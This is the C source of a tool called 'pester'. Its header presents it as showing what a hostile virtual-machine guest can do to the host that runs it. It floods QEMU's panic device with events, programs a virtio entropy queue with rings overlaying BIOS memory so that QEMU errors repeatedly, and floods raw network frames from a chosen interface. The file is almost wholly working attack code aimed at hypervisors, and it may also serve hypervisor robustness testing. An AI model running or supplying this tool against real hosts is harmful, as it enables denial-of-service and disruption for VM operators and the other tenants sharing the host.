/*
 * pester crashload COUNT        writes to the panic device, each of which is an event for whoever runs the VM
 * pester break COUNT            gives the entropy device a queue that makes no sense, and resets it: QEMU complains each time
 * pester frames NIC COUNT HEX   sends a frame, from its destination address on, again and again
 *
 * What a hostile guest does to the one that runs it. The devices' drivers have to be unbound before.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define DEVICES "/sys/bus/pci/devices"

/* The memory of a PCI device's bar, found by vendor and device as its modalias has them. */
static volatile uint8_t *map_bar(const char *id, int bar, size_t size) {
  char path[512], modalias[64] = "";
  DIR *devices = opendir(DEVICES);
  for (struct dirent *entry; devices && (entry = readdir(devices));) {
    snprintf(path, sizeof path, DEVICES "/%s/modalias", entry->d_name);
    FILE *file = fopen(path, "r");
    if (!file) continue;
    int found = fgets(modalias, sizeof modalias, file) && strncmp(modalias, id, strlen(id)) == 0;
    fclose(file);
    if (!found) continue;
    snprintf(path, sizeof path, DEVICES "/%s/enable", entry->d_name);
    file = fopen(path, "w");
    if (file) fputs("1", file), fclose(file);
    snprintf(path, sizeof path, DEVICES "/%s/resource%d", entry->d_name, bar);
    int fd = open(path, O_RDWR | O_SYNC);
    void *memory = fd < 0 ? MAP_FAILED : mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (memory != MAP_FAILED) return memory;
    perror(path);
    return NULL;
  }
  printf("pester: no device %s\n", id);
  return NULL;
}

static int crashload(long count) {
  volatile uint8_t *panic = map_bar("pci:v00001B36d00000011", 0, 4096);
  if (!panic) return 1;
  for (long i = 0; i < count; i++) *panic = 2;
  return 0;
}

/* Virtio 1.2, 4.1.4.3: the common configuration, which QEMU has at the start of bar 4, and notifications at 0x3000. */
static int break_queue(long count) {
  volatile uint8_t *bar = map_bar("pci:v00001AF4d00001044", 4, 0x4000);
  if (!bar) bar = map_bar("pci:v00001AF4d00001005", 4, 0x4000);
  if (!bar) return 1;
  for (long i = 0; i < count; i++) {
    bar[0x14] = 0;
    bar[0x14] = 1;
    bar[0x14] = 3;
    *(volatile uint32_t *)(bar + 0x08) = 1;
    *(volatile uint32_t *)(bar + 0x0c) = 1;
    bar[0x14] = 11;
    *(volatile uint16_t *)(bar + 0x16) = 0;
    /* Descriptors and used ring in memory of the BIOS. The ring of what is available lies over its reset vector, so
     * that more is available than the queue has room for. */
    const uint32_t rings[] = {0x1000, 0xffff0, 0x2000};
    for (int ring = 0; ring < 3; ring++) {
      *(volatile uint32_t *)(bar + 0x20 + 8 * ring) = rings[ring];
      *(volatile uint32_t *)(bar + 0x24 + 8 * ring) = 0;
    }
    *(volatile uint16_t *)(bar + 0x1c) = 1;
    bar[0x14] = 15;
    *(volatile uint16_t *)(bar + 0x3000) = 0;
  }
  return 0;
}

static int frames(const char *name, long count, const char *hex) {
  unsigned char frame[2048];
  size_t length = strlen(hex) / 2;
  struct sockaddr_ll nic = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
  int fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (fd < 0 || length > sizeof frame || (nic.sll_ifindex = (int)if_nametoindex(name)) == 0) return 1;
  for (size_t at = 0; at < length; at++) {
    unsigned int byte;
    if (sscanf(hex + 2 * at, "%2x", &byte) != 1) return 1;
    frame[at] = (unsigned char)byte;
  }
  for (long i = 0; i < count; i++)
    if (sendto(fd, frame, length, 0, (struct sockaddr *)&nic, sizeof nic) < 0) usleep(1000);
  return 0;
}

int main(int argc, char **argv) {
  int status = 2;
  if (argc == 3 && strcmp(argv[1], "crashload") == 0) status = crashload(atol(argv[2]));
  if (argc == 3 && strcmp(argv[1], "break") == 0) status = break_queue(atol(argv[2]));
  if (argc == 5 && strcmp(argv[1], "frames") == 0) status = frames(argv[2], atol(argv[3]), argv[4]);
  printf("pester: status %d\n", status);
  return status;
}
